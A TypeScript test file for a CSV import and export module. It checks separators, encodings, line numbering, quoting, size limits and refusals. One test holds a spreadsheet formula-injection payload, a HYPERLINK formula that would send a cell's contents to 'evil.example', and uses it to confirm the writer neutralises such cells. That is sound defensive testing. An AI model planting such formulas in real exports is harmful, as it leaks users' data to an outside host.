import { describe, expect, it } from "vitest";
import { readCsv } from "./csv-file.ts";
import { csvOf } from "./csv-lines.ts";

const ROWS = [
  { line: 1, cells: ["Name", "Note"] },
  { line: 2, cells: ["Peña", "“ok” €"] },
];

async function read(file: string | Uint8Array) {
  const outcome = await readCsv(typeof file === "string" ? Buffer.from(file) : file);
  return outcome.ok ? outcome.value : outcome.refusal.fields?.csv;
}

function utf16(text: string, order: "le" | "be"): Buffer {
  const bytes = Buffer.from(`\ufeff${text}`, "utf16le");
  return order === "le" ? bytes : bytes.swap16();
}

describe("a file", () => {
  it.each([",", ";", "\t"])("may be separated by %j", async (separator) => {
    expect(await read(`Name${separator}Note\r\nPeña${separator}“ok” €\r\n`)).toEqual(ROWS);
  });

  it.each([
    ["UTF-8", Buffer.from("Name,Note\nPeña,“ok” €")],
    ["UTF-8 with a byte order mark", Buffer.from("\ufeffName,Note\nPeña,“ok” €")],
    ["UTF-16 LE", utf16("Name,Note\nPeña,“ok” €", "le")],
    ["UTF-16 BE", utf16("Name,Note\nPeña,“ok” €", "be")],
    ["Windows-1252", Buffer.from("Name,Note\nPe\u00f1a,\u0093ok\u0094 \u0080", "latin1")],
  ])("may be in %s", async (_name, bytes) => {
    expect(await read(bytes)).toEqual(ROWS);
  });

  it.each(["\n", "\r\n", "\r"])("tells where each line begins when lines end in %j", async (end) => {
    const file = ["a,b", `"12 Rizal St${end}Iloilo",2`, "", ",", '"q ""z""",he said "hi"', "last"].join(end);
    expect(await read(file)).toEqual([
      { line: 1, cells: ["a", "b"] },
      { line: 2, cells: ["12 Rizal St\nIloilo", "2"] },
      { line: 6, cells: ['q "z"', 'he said "hi"'] },
      { line: 7, cells: ["last"] },
    ]);
  });

  it("finds its separator although another one stands in a quoted name", async () => {
    expect(await read('"Name, first, last, all";b\n1;2')).toEqual([
      { line: 1, cells: ["Name, first, last, all", "b"] },
      { line: 2, cells: ["1", "2"] },
    ]);
  });

  it.each(["en", "de", "fil"] as const)(
    "that we write in %s calculates nothing, whatever splits it, and comes back",
    async (language) => {
      const cells = ["Ana", 'x,=HYPERLINK("http://evil.example/?"&A1),y', "x; +1|-1"];
      const file = csvOf([cells, cells], language);
      const own = language === "de" ? ";" : ",";
      for (const other of [",", ";", "|"].filter((separator) => separator !== own)) {
        for (const cell of file.split(other)) expect(cell).not.toMatch(/^[" ]*[=+@-]/);
      }
      expect(await read(file)).toEqual([
        { line: 1, cells },
        { line: 2, cells },
      ]);
    },
  );

  it("loses the ' that guards a text from being calculated, and no other", async () => {
    expect(await read("'=1+1,'+63 917,'-5,'@x,'hello,'s-Hertogenbosch,''=1")).toEqual([
      { line: 1, cells: ["=1+1", "+63 917", "-5", "@x", "'hello", "'s-Hertogenbosch", "''=1"] },
    ]);
  });

  it("is cut to its first 50 columns", async () => {
    expect(await read("x,".repeat(200))).toMatchObject([{ line: 1, cells: { length: 50 } }]);
  });
});

describe("a file is refused", () => {
  it.each([
    ["with nothing in it", "", { key: "importEmpty" }],
    ["with nothing but separators", "\n,,,\n\n , \n", { key: "importEmpty" }],
    ["whose quotes never end", 'a,b\n"c,d\n', { key: "importUnreadable", params: { line: 2 } }],
    ["that is a workbook", Buffer.from("504b030414000600", "hex"), { key: "importWorkbook" }],
    ["that is an old workbook", Buffer.from("d0cf11e0a1b11ae1", "hex"), { key: "importWorkbook" }],
    ["of too many lines", "a,b\n".repeat(5002), { key: "importTooManyLines", params: { max: 5000 } }],
    ["of more than 2 MB", "a".repeat(2 * 1024 * 1024 + 1), { key: "importTooLarge", params: { max: 2 } }],
  ])("%s", async (_why, file, message) => {
    expect(await read(file)).toMatchObject([message]);
  });
});
